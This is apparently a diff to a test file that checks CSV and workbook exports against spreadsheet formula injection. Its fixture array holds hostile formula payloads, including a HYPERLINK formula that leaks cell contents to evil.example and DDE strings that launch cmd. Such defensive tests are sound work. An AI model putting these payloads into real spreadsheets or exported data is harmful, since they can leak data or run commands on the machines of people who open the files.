@@ -1,6 +1,8 @@
 /**
- * Hostile answer texts through every spreadsheet export: each text cell that
- * starts with = + - @, tab or CR is prefixed with an apostrophe; numbers are not.
+ * Hostile answer texts through every spreadsheet export. In a CSV, each text
+ * cell that starts with = + - @, tab or CR is prefixed with an apostrophe;
+ * numbers are not. In the workbook the text stays verbatim, typed as a string
+ * (never a formula) with the quote-prefix style.
  */
 import { describe, expect, it } from 'vitest';
 import { answerId } from '../model/types';
@@ -9,7 +11,7 @@ import { wideCsvToString } from './csv-wide';
 import type { ExportSource } from './source';
 import { parseCsv, sampleSource } from './test-data';
 import { projectWorkbook } from './workbook-export';
-import { readGrid, unzipParts } from './xlsx-test-helpers';
+import { readCells, readGrid, unzipParts } from './xlsx-test-helpers';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 
@@ -56,15 +58,19 @@ describe('formula injection', () => {
     expect(rows.slice(1).map((r) => r.at(-1))).toEqual(HOSTILE.map(() => '1'));
   });
 
-  it('neutralises every text cell of the workbook, and keeps numbers numeric', () => {
+  it('keeps every text cell of the workbook verbatim, as a string with the quote prefix, and numbers numeric', () => {
     const parts = unzipParts(projectWorkbook(hostileSource()));
     for (const name of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/worksheets/sheet3.xml']) {
-      for (const row of readGrid(parts[name])) {
-        for (const cell of row) if (typeof cell === 'string') expect(DANGEROUS.test(cell)).toBe(false);
+      expect(parts[name]).not.toMatch(/<f[\s>]/);
+      for (const cell of readCells(parts[name])) {
+        if (cell.type !== 'inlineStr') continue;
+        expect(cell.value.startsWith("'")).toBe(false);
+        if (DANGEROUS.test(cell.value)) expect(['2', '3']).toContain(cell.style);
       }
     }
     const answers = readGrid(parts['xl/worksheets/sheet2.xml']);
-    expect(answers.slice(1).map((r) => r[4])).toEqual(HOSTILE.map((t) => `'${t}`));
+    expect(answers.slice(1).map((r) => r[4])).toEqual(HOSTILE);
     expect(answers.slice(1).map((r) => r.at(-1))).toEqual(HOSTILE.map(() => 1));
+    expect(parts['xl/styles.xml']).toContain('quotePrefix="1"');
   });
 });
